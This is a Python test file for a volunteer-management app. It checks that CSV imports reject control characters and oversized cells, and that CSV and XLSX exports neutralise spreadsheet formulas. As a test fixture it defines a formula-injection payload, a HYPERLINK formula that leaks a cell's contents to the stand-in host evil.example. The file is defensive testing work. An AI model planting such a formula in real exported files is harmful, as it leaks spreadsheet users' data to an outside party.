"""Imports and downloads are safe with hostile files and text: control characters in an import
cell and a CSV cell over the csv module's field limit are line errors (nothing imported, no
traceback); every CSV and XLSX written neutralises formulas, and only core.tabular writes them."""

from __future__ import annotations

import ast
import csv
import io
from datetime import date, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import func, select

from tests.timebank.conftest import member
from volunteer_hub.core.errors import DomainError
from volunteer_hub.core.tabular import FORMULA_PREFIXES, PLAIN_NUMBER, read_table, write_csv
from volunteer_hub.expenses.models import ExpenseClaim
from volunteer_hub.extensions import db
from volunteer_hub.hours.models import HourRecord
from volunteer_hub.timebank import services as timebank_services
from volunteer_hub.timebank.models import Entry

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "volunteer_hub"
TODAY = date.today()
CONTROL = "remove the control characters (such as a null byte or a line break) from"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def _no_traceback(result) -> None:
    assert result.exit_code != 0
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(
        result.exception
    )
    assert "Traceback" not in result.output


# --- imports --------------------------------------------------------------------------------


def _write(path: Path, lines: list[str]) -> Path:
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


HOURS_GOOD = "r1,ann@example.org,Ann Able,Riverside,Befriender,,2025-05-01,2.5,no"
EXPENSES_HEADER = (
    "ref,volunteer_email,volunteer_name,organisation,date,type,miles,amount,status,paid_on,"
    "description"
)
EXPENSES_GOOD = "E1,ok@example.test,,Organisation A,2025-05-01,parking,,3.40,approved,,Car park"


def test_nul_in_an_hours_import_is_a_line_error_and_nothing_is_imported(cli) -> None:
    bad = HOURS_GOOD.replace("r1,", "r2,").replace("Ann Able", "Ann\x00Able")
    result = cli(
        "hours", [HOURS_GOOD.split(","), bad.split(",")], "--create-missing", expect_ok=False
    )
    _no_traceback(result)
    assert "Nothing was imported" in result.output
    assert f"line 3: {CONTROL} volunteer_name" in result.output
    assert db.session.scalar(select(func.count(HourRecord.id))) == 0


def test_nul_in_an_expenses_import_is_a_line_error_and_nothing_is_imported(
    runner, personas, tmp_path
) -> None:
    bad = EXPENSES_GOOD.replace("E1", "E2").replace("Car park", "Car\x00park")
    path = _write(tmp_path / "claims.csv", [EXPENSES_HEADER, EXPENSES_GOOD, bad])
    result = runner.invoke(args=["expenses", "import", str(path), "--create-missing"])
    _no_traceback(result)
    assert f"line 3: {CONTROL} description" in result.output
    assert db.session.scalar(select(func.count(ExpenseClaim.id))) == 0


def test_nul_in_a_timebank_import_is_a_line_error_and_nothing_is_imported(
    runner, bank, tmp_path
) -> None:
    day = TODAY - timedelta(days=3)
    ann, bob = "volunteer@example.test", "bob@example.test"
    path = _write(
        tmp_path / "exchanges.csv",
        [
            "ref,date,giver_email,receiver_email,hours,description",
            f"t1,{day},{ann},{bob},1,Shopping",
            f"t2,{day},{ann},{bob},1,Lift\x00",
            f"t3\x01,{day},{ann},{bob},1,Lift",
        ],
    )
    result = runner.invoke(args=["timebank", "import", str(path)])
    _no_traceback(result)
    assert f"line 3: {CONTROL} description" in result.output
    assert f"line 4: {CONTROL} ref" in result.output
    assert db.session.scalar(select(func.count(Entry.id))) == 0


def test_a_csv_cell_over_the_field_limit_is_a_line_error(cli, tmp_path) -> None:
    huge = "x" * (csv.field_size_limit() + 1)
    result = cli(
        "hours",
        [HOURS_GOOD.split(","), ["r2", "a@example.org", huge, "Riverside", "", "", "", "", ""]],
        "--create-missing",
        expect_ok=False,
    )
    _no_traceback(result)
    assert "line 3: a cell is longer than 131,072 characters" in result.output
    assert db.session.scalar(select(func.count(HourRecord.id))) == 0
    with pytest.raises(DomainError, match="line 3: a cell is longer"):
        list(read_table(_write(tmp_path / "big.csv", ["a,b", "1,2", f"3,{huge}"]), ("a", "b")))


def test_read_table_lists_every_row_with_control_characters(tmp_path) -> None:
    path = _write(tmp_path / "t.csv", ["a,b,ignored", "1,2,\x00", "\x003,4,", "5,6\x7f,", "7,8,"])
    rows = []
    with pytest.raises(DomainError) as raised:
        for row in read_table(path, ("a", "b")):
            rows.append(row)
    assert rows == [(2, {"a": "1", "b": "2"}), (5, {"a": "7", "b": "8"})]
    message = raised.value.message
    assert message.startswith("Nothing was imported: 2 rows need fixing.")
    assert f"line 3: {CONTROL} a\n" in message and message.endswith(f"line 4: {CONTROL} b")


# --- CSV and XLSX downloads -----------------------------------------------------------------


def test_the_statement_csv_neutralises_formulas(personas, login, bank) -> None:
    timebank_services.record_for_both(
        actor=personas.coordinator_a,
        timebank=bank.timebank,
        giver=bank.ann,
        receiver=bank.bob,
        done_on=TODAY - timedelta(days=1),
        minutes=60,
        description=HYPERLINK,
        key="a" * 32,
        today=TODAY,
    )
    db.session.commit()
    url = f"/timebanks/{bank.timebank.id}/accounts/{bank.ann.id}/statement.csv"
    rows = list(csv.reader(io.StringIO(login(personas.volunteer).get(url).get_data(as_text=True))))
    assert rows[1][1] == "'" + HYPERLINK and rows[1][3] == "1.00"


def test_the_balances_csv_neutralises_formulas(runner, bank) -> None:
    member(bank.timebank, name=HYPERLINK)
    member(bank.timebank, name="-1+1", email="")
    db.session.commit()
    rows = list(
        csv.reader(
            io.StringIO(runner.invoke(args=["timebank", "balances", "--format", "csv"]).output)
        )
    )
    members = [row[0] for row in rows]
    assert "'" + HYPERLINK in members and "'-1+1" in members
    assert not any(name.startswith(FORMULA_PREFIXES) for name in members)


def test_xlsx_cells_are_neutralised() -> None:
    from openpyxl import load_workbook

    from volunteer_hub.core.tabular import Sheet, write_xlsx

    body = write_xlsx([Sheet("Payments", [["=1+2", "-97781.94", 3, None]], header=["@a", "b"])])
    sheet = load_workbook(io.BytesIO(body)).active
    assert [c.value for c in sheet[1]][:2] == ["'@a", "b"]
    assert [c.value for c in sheet[2]][:3] == ["'=1+2", "-97781.94", 3]


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_no_csv_cell_written_can_start_a_formula(cells: list[str]) -> None:
    row = next(csv.reader(io.StringIO(write_csv([cells]))))
    assert len(row) == len(cells)
    for cell in row:
        assert not cell.startswith(FORMULA_PREFIXES) or PLAIN_NUMBER.match(cell)


def test_only_core_tabular_writes_csv_or_xlsx() -> None:
    """Every CSV and XLSX the product writes goes through core.tabular's neutralising writers:
    no other module may use csv.writer/csv.DictWriter or openpyxl."""
    offenders = []
    for path in PACKAGE.rglob("*.py"):
        if path == PACKAGE / "core" / "tabular.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            where = f"{path.relative_to(ROOT)}:{getattr(node, 'lineno', 0)}"
            if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}:
                if isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(where)
            elif isinstance(node, ast.ImportFrom) and node.module:
                if node.module.split(".")[0] == "openpyxl":
                    offenders.append(where)
                if node.module == "csv" and {a.name for a in node.names} & {"writer", "DictWriter"}:
                    offenders.append(where)
            elif isinstance(node, ast.Import) and any(
                alias.name.split(".")[0] == "openpyxl" for alias in node.names
            ):
                offenders.append(where)
    assert offenders == []
